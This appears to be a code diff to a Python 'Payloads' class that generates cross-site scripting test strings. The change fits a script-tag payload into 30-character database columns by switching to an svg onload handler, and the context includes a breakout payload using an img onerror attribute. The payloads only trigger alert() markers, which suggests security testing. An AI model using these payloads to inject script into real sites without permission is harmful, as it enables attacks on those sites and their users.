@@ -58,8 +58,11 @@ class Payloads:
         return f'<script>alert("{tag}")</script>"\'><img src=x onerror=alert("{tag}")>'
 
     def short(self, where: str) -> str:
-        """Return a payload of 29 characters, for the columns of 30."""
-        return f'<script>alert("{self._tag(where)}")</script>'
+        """Return a payload of at most 30 characters, for the columns of 30 (an event handler
+        when a network prefix makes the script tag too long)."""
+        tag = self._tag(where)
+        payload = f'<script>alert("{tag}")</script>'
+        return payload if len(payload) <= 30 else f'<svg onload=alert("{tag}")>'
 
     def url(self, where: str) -> str:
         """Return a web address a member's website field accepts, breaking out of href."""
